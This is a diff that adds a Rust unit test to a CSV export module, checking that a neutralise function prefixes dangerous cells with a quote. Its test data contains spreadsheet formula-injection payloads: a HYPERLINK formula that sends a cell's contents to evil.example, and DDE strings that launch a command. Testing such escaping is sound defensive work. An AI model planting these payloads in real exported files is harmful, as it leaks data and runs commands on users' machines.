@@ -150,3 +150,22 @@ proptest! {
         }
     }
 }
+
+#[test]
+fn csv_cells_that_start_a_formula_are_neutralised() {
+    for bad in [
+        "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1,1)",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "\tx",
+        "\rx",
+    ] {
+        assert_eq!(crate::neutralise(bad), format!("'{bad}"));
+    }
+    assert_eq!(crate::neutralise("张三"), "张三");
+    assert_eq!(crate::neutralise("a=b"), "a=b");
+    let text = crate::csv_text(&["姓名", "=H"], &[vec!["=1+1", "ok"]]).unwrap();
+    assert_eq!(text, "姓名,'=H\n'=1+1,ok\n");
+}
